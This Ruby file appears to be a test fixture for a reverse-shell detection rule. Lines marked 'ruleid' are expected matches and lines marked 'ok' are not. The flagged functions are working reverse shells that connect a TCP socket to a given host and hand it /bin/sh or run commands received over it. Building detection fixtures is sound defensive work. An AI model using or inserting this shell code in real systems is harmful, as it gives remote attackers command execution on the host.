require "socket"

def check(host)
  link = TCPSocket.new(host, 4444)
  # ruleid: execution/reverse-shell-ruby
  $stdin.reopen(link)
  # ruleid: execution/reverse-shell-ruby
  $stdout.reopen(link)
  exec "/bin/sh"
end

def answer(host)
  link = TCPSocket.open(host, 9001)
  # ruleid: execution/reverse-shell-ruby
  spawn("/bin/sh", in: link, out: link, err: link)
end

def loop_over(host)
  link = TCPSocket.new(host, 9001)
  loop do
    # ruleid: execution/reverse-shell-ruby
    link.puts(`#{link.gets}`)
  end
end

def banner(host)
  link = TCPSocket.new(host, 25)
  # ok: execution/reverse-shell-ruby
  link.gets
end

def daemonise(log)
  # ok: execution/reverse-shell-ruby
  $stdin.reopen(log)
end

def build
  # ok: execution/reverse-shell-ruby
  spawn("make", in: "/dev/null")
end

def send_report(host, report)
  link = TCPSocket.new(host, 9)
  # ok: execution/reverse-shell-ruby
  link.puts(report)
end
